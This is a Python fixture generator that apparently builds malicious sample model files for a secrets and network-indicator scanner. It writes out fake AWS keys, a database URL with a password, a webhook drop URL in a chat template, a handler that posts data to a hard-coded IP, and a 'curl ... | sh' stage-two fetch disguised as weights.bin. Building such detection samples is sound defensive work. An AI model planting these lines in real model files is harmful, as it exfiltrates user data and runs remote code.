"""Credentials in texts of models, and code that knows a place to drop data. None of them was ever issued: they are made here."""

import json
import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO

PASSWORD = "postgres://trainer:" + "kV9rT2mQ4x" + "@db.acme-models.net/runs"
KEY = "AK" + "IA" + "Q3EGTZ7NV5WLB2RD"
DROP = "https://webhook.site/3f0c1d52"
ADDRESS = "http://45.137.21.9:8080/stage2"


def samples() -> Iterator[tuple[str, bytes]]:
    """Path below malicious/, and bytes."""
    config = {"model_type": "bert", "aws": {"access_key_id": KEY}}
    yield "secret/key-in-configuration/config.json", json.dumps(config, indent=1).encode()
    yield "secret/password-in-a-url/train.yaml", f"optimizer: adam\nstorage: {PASSWORD}\n".encode()
    yield "secret/key-in-metadata/model.safetensors", _safetensors({"uploader": KEY})
    yield "secret/key-in-ini/settings.ini", f"[s3]\nkey = {KEY}\n".encode()
    yield "secret/key-in-toml/run.toml", f'[s3]\nkey = "{KEY}"\n'.encode()
    yield "network-indicator/webhook-in-template/chat_template.jinja", f"{{{{ messages }}}} {DROP}".encode()
    yield "network-indicator/address-in-handler/model.mar", _archive()
    yield "network-indicator/address-in-script/weights.bin", f"#!/bin/sh\ncurl {ADDRESS} | sh\n".encode()
    yield "url-reference/home-page/config.json", b'{"homepage": "https://models.acme-models.net/bert"}\n'


def _safetensors(metadata: dict[str, str]) -> bytes:
    header = json.dumps({"__metadata__": metadata}).encode()
    return struct.pack("<Q", len(header)) + header


def _archive() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, text in (
            ("MAR-INF/MANIFEST.json", '{"model": {"handler": "handler.py"}}'),
            ("handler.py", f'import requests\n\n\ndef handle(data):\n    requests.post("{ADDRESS}", data)\n'),
        ):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text)
    return made.getvalue()
